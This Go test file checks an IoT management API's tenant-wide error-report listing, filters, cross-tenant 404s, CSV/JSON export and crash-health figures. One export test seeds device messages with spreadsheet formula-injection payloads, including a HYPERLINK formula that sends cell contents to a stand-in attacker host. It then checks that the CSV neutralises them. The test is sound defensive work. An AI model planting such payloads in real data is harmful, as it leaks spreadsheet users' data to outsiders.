package mgmt_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moat-iot/moat/client"
	"github.com/moat-iot/moat/internal/errreport"
)

func (w *reportWorld) tenantPath(rest string) string { return "/api/v1/tenants/" + w.p.Tenant + rest }

// allTenantReports lists every report through the client, in pages of three.
func allTenantReports(t *testing.T, c *client.Client, tenant string, f client.ErrorReportFilter) []client.TenantErrorReport {
	t.Helper()
	var all []client.TenantErrorReport
	opts := client.ListOptions{Limit: 3}
	for range 100 {
		page, err := c.ListTenantErrorReports(t.Context(), tenant, f, opts)
		if err != nil {
			t.Fatalf("ListTenantErrorReports(%+v) = %v", f, err)
		}
		all = append(all, page.Items...)
		if page.NextPageToken == "" {
			return all
		}
		opts.PageToken = page.NextPageToken
	}
	t.Fatal("pagination does not end")
	return nil
}

func tenantReportIDs(rs []client.TenantErrorReport) []string {
	ids := []string{}
	for _, r := range rs {
		ids = append(ids, r.Report.ID)
	}
	slices.Sort(ids)
	return ids
}

// TestTenantErrorReports_ListFiltersAndPages: the tenant-wide list holds both devices'
// reports, newest received first, with their product and group, page by page, and each
// filter selects what it says.
func TestTenantErrorReports_ListFiltersAndPages(t *testing.T) {
	t.Parallel()
	onBothPlatforms(t, func(t *testing.T, w *reportWorld) {
		first, second := testReports(5), testReports(10)[5:]
		upload(t, w.device, first)
		upload(t, w.device2, second)
		all := allTenantReports(t, w.p.Admin, w.p.Tenant, client.ErrorReportFilter{})
		if got, want := tenantReportIDs(all), tenantReportIDs(toTenant(first, second)); !slices.Equal(got, want) {
			t.Fatalf("listed IDs = %v, want %v", got, want)
		}
		for i := 1; i < len(all); i++ {
			if all[i].ReceivedAt.After(all[i-1].ReceivedAt) {
				t.Errorf("report %d received %s after report %d's %s: want newest first", i, all[i].ReceivedAt, i-1, all[i-1].ReceivedAt)
			}
		}
		prods, err := w.p.Admin.ListProducts(t.Context(), w.p.Tenant, client.ListOptions{Name: "DW100"})
		if err != nil || len(prods.Items) != 1 {
			t.Fatalf("ListProducts(DW100) = %+v, %v", prods, err)
		}
		pid := prods.Items[0].ID
		for _, r := range all {
			if r.ProductID != pid || r.GroupID == "" {
				t.Errorf("report %s: product %q group %q, want DW100 (%s) and its group", r.Report.ID, r.ProductID, r.GroupID, pid)
			}
		}
		for _, c := range []struct {
			name string
			f    client.ErrorReportFilter
			want []errreport.Report
		}{
			{"device", client.ErrorReportFilter{Device: w.dev2.ID}, second},
			{"kind", client.ErrorReportFilter{Kind: "app_crash"}, []errreport.Report{first[0], second[0]}},
			{"product", client.ErrorReportFilter{Product: pid}, append(slices.Clone(first), second...)},
			{"product and group", client.ErrorReportFilter{Product: pid, Group: all[0].GroupID}, append(slices.Clone(first), second...)},
			{"other product", client.ErrorReportFilter{Product: "prd_none"}, nil},
			{"since now", client.ErrorReportFilter{Since: time.Now().Add(time.Minute)}, nil},
			{"until now", client.ErrorReportFilter{Until: time.Now().Add(time.Minute)}, append(slices.Clone(first), second...)},
		} {
			got := allTenantReports(t, w.p.Admin, w.p.Tenant, c.f)
			if g, w := tenantReportIDs(got), tenantReportIDs(toTenant(c.want)); !slices.Equal(g, w) {
				t.Errorf("ListTenantErrorReports(%s) IDs = %v, want %v", c.name, g, w)
			}
		}
		// A Reader may list.
		w.reader.must(200, "GET", w.tenantPath("/error-reports"), nil)
	})
}

func toTenant(batches ...[]errreport.Report) []client.TenantErrorReport {
	var out []client.TenantErrorReport
	for _, b := range batches {
		for _, r := range b {
			out = append(out, client.TenantErrorReport{Report: client.ErrorReport{ID: r.ID}})
		}
	}
	return out
}

// TestTenantErrorReports_RejectsBadFilters: a bad filter, format, window or page token is
// a problem document naming the parameter, never an empty or unfiltered answer.
func TestTenantErrorReports_RejectsBadFilters(t *testing.T) {
	t.Parallel()
	w := newReportWorld(t)
	for _, c := range []struct{ path, field string }{
		{"/error-reports?kind=crash", "kind"},
		{"/error-reports?since=yesterday", "since"},
		{"/error-reports?until=2026-02-30T00:00:00Z", "until"},
		{"/error-reports?group=grp_1", "group"},
		{"/error-reports?device=nope", "device"},
		{"/error-reports?page_token=bm9wZQ", "page_token"},
		{"/error-reports/export?format=xlsx", "format"},
		{"/error-reports/export?kind=crash&format=csv", "kind"},
		{"/error-reports/export?since=2026-01-01", "since"},
		{"/image-health?window=7d", "window"},
		{"/image-health?window=1000000h", "window"},
		{"/image-health?product=a%20b", "product"},
	} {
		r := w.admin.do("GET", w.tenantPath(c.path), nil)
		if r.Status != 400 {
			t.Errorf("GET %s = %d %s, want 400", c.path, r.Status, r.Body)
			continue
		}
		if p := r.problem(t); p.Field != c.field {
			t.Errorf("GET %s: problem field = %q (%s), want %q", c.path, p.Field, p.Code, c.field)
		}
	}
}

// TestTenantErrorReports_CrossTenantIsNotFound: another tenant's administrator gets 404 for
// Contoso's list, download and health, and sees none of Contoso's reports in its own
// (rule 3; TestAPI_CrossTenantIsNotFound walks the routes too).
func TestTenantErrorReports_CrossTenantIsNotFound(t *testing.T) {
	t.Parallel()
	w := newReportWorld(t)
	upload(t, w.device, testReports(5))
	for _, path := range []string{"/error-reports", "/error-reports/export?format=csv", "/error-reports/export?format=json", "/image-health"} {
		r := w.fabrikam.do("GET", w.tenantPath(path), nil)
		if r.Status != 404 || strings.Contains(string(r.Body), w.dev.ID) {
			t.Errorf("Fabrikam GET Contoso %s = %d %s, want 404 naming nothing of Contoso", path, r.Status, r.Body)
		}
	}
	own := "/api/v1/tenants/" + w.fabTenant
	var list struct {
		Items []json.RawMessage `json:"items"`
	}
	w.fabrikam.must(200, "GET", own+"/error-reports", nil).decode(t, &list)
	if len(list.Items) != 0 {
		t.Errorf("Fabrikam's own list = %d reports, want none", len(list.Items))
	}
	r := w.fabrikam.must(200, "GET", own+"/error-reports/export?format=csv", nil)
	if rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll(); err != nil || len(rows) != 1 {
		t.Errorf("Fabrikam's own CSV = %d rows, %v, want the header alone", len(rows), err)
	}
}

// TestExportErrorReports_NeutralisesFormulaFromDevice: a device's report text that a
// spreadsheet would run (=HYPERLINK, +, -, @) reaches the CSV download as text, and the
// download is an attachment in the format asked for.
func TestExportErrorReports_NeutralisesFormulaFromDevice(t *testing.T) {
	t.Parallel()
	onBothPlatforms(t, func(t *testing.T, w *reportWorld) {
		reports := testReports(4)
		evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1", "-2", "@SUM(A1:A2)"}
		for i := range reports {
			reports[i].Message = evil[i]
		}
		upload(t, w.device, reports)

		r := w.reader.must(200, "GET", w.tenantPath("/error-reports/export?format=csv"), nil)
		if ct, cd := r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"); !strings.HasPrefix(ct, "text/csv") ||
			!strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
			t.Errorf("CSV download headers Content-Type %q, Content-Disposition %q; want text/csv as an attachment", ct, cd)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil || len(rows) != 5 {
			t.Fatalf("CSV download = %d rows, %v, want a header and 4 reports:\n%s", len(rows), err, r.Body)
		}
		col := slices.Index(rows[0], "message")
		var got []string
		for _, row := range rows[1:] {
			got = append(got, row[col])
		}
		slices.Sort(got)
		want := []string{`'+1`, `'-2`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`, `'@SUM(A1:A2)`}
		if !slices.Equal(got, want) {
			t.Errorf("CSV messages = %q, want %q", got, want)
		}

		// JSON: the list's objects, unchanged, in one array; the client streams it.
		var buf bytes.Buffer
		n, err := w.p.Admin.ExportErrorReports(t.Context(), w.p.Tenant, "json", client.ErrorReportFilter{}, &buf)
		if err != nil || n != int64(buf.Len()) {
			t.Fatalf("ExportErrorReports(json) = %d, %v", n, err)
		}
		var items []client.TenantErrorReport
		if err := json.Unmarshal(buf.Bytes(), &items); err != nil || len(items) != 4 {
			t.Fatalf("JSON download = %d items, %v, want 4:\n%s", len(items), err, buf.Bytes())
		}
		if items[0].Report.Message != reports[3].Message && items[0].Report.Message != evil[0] {
			t.Errorf("JSON download message = %q, want the report's text unchanged", items[0].Report.Message)
		}
	})
}

// TestImageHealth_CountsCrashesOfRunningVersion: both devices attested the app; one
// uploads a crash naming it: 2 devices, 1 crashed, 50% crash-free, 1 crash.
func TestImageHealth_CountsCrashesOfRunningVersion(t *testing.T) {
	t.Parallel()
	onBothPlatforms(t, func(t *testing.T, w *reportWorld) {
		h, err := w.p.Admin.GetImageHealth(t.Context(), w.p.Tenant, "", 0)
		if err != nil {
			t.Fatal(err)
		}
		if h.Window != "168h0m0s" || !h.Until.After(h.From) {
			t.Errorf("GetImageHealth window = %q from %s until %s, want 168h", h.Window, h.From, h.Until)
		}
		var app client.VersionHealth
		for _, v := range h.Versions {
			if v.Kind == "app" {
				app = v
			}
		}
		if app.Devices != 2 || app.CrashedDevices != 0 || app.CrashFreePercent == nil || *app.CrashFreePercent != 100 {
			t.Fatalf("app health before any crash = %+v, want 2 devices, 100%% crash-free", app)
		}
		code := 139
		at := time.Now().UTC()
		upload(t, w.device, []errreport.Report{{ID: errreport.NewID(at), Kind: errreport.AppCrash, At: at,
			ImagePath: app.Target, ImageVersion: app.Version, ExitCode: &code}})

		h, err = w.p.Admin.GetImageHealth(t.Context(), w.p.Tenant, "", 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range h.Versions {
			if v.Kind == "app" && v.Target == app.Target {
				app = v
			}
		}
		if app.Devices != 2 || app.CrashedDevices != 1 || app.Crashes != 1 || app.CrashFreePercent == nil || *app.CrashFreePercent != 50 {
			t.Errorf("app health after one crash = %+v, want 2 devices, 1 crashed, 50%% crash-free, 1 crash", app)
		}
		if h.Window != "24h0m0s" {
			t.Errorf("window = %q, want 24h0m0s", h.Window)
		}
		w.reader.must(200, "GET", w.tenantPath("/image-health?window=24h"), nil)
	})
}
